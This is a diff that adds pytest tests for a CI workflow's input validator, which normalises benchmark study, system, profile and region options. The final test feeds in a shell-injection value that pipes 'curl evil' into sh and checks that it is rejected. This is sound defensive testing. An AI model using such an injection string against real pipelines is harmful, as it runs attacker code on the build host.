@@ -1,0 +1,65 @@
+"""Dispatch input validation: bad input fails with one line naming the valid values."""
+from __future__ import annotations
+
+import subprocess
+import sys
+
+import pytest
+
+from conftest import SCRIPTS
+
+GOOD = ["--studies", "oltp,mcp-db", "--systems", "postgresql, duckdb", "--profile", "full",
+        "--instance-type", "c6a.4xlarge", "--topology", "split", "--publish", "yes", "--region", "us-east-1"]
+
+
+def run(*args, output=None):
+    extra = ["--github-output", str(output)] if output else []
+    return subprocess.run([sys.executable, str(SCRIPTS / "validate_inputs.py"), *args, *extra],
+                          capture_output=True, text=True, timeout=30)
+
+
+def test_valid_inputs_are_normalised_into_github_output(tmp_path):
+    out = tmp_path / "github_output"
+    result = run(*GOOD, output=out)
+    assert result.returncode == 0, result.stderr
+    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
+    assert lines["studies"] == "oltp,mcp-db"
+    assert lines["systems"] == "postgresql,duckdb"
+    assert lines["instance_type"] == "c6a.4xlarge"
+    assert lines["topology"] == "split"
+
+
+def test_duplicates_are_dropped_in_order():
+    result = run("--studies", "oltp,analytical,oltp", "--systems", "sqlite", "--profile", "ci")
+    assert "studies=oltp,analytical" in result.stdout
+
+
+@pytest.mark.parametrize("field,value,named", [
+    ("--studies", "oltp,tpcc", "'tpcc'"),
+    ("--systems", "postgres", "'postgres'"),
+    ("--profile", "huge", "'huge'"),
+    ("--instance-type", "m7i.48xlarge", "'m7i.48xlarge'"),
+    ("--topology", "mesh", "'mesh'"),
+    ("--publish", "maybe", "'maybe'"),
+    ("--region", "ap-south-1", "'ap-south-1'"),
+])
+def test_bad_value_fails_with_one_line_naming_valid_values(field, value, named):
+    args = list(GOOD)
+    args[args.index(field) + 1] = value
+    result = run(*args)
+    assert result.returncode == 2
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1
+    assert named in lines[0] and "valid values are" in lines[0]
+
+
+def test_empty_list_is_rejected():
+    result = run("--studies", " , ", "--systems", "sqlite", "--profile", "ci")
+    assert result.returncode == 2
+    assert "studies is empty" in result.stderr
+
+
+def test_injection_attempt_is_just_an_invalid_value():
+    result = run("--studies", 'oltp"; curl evil | sh; echo "', "--systems", "sqlite", "--profile", "ci")
+    assert result.returncode == 2
+    assert "valid values are oltp, mcp-db, analytical" in result.stderr
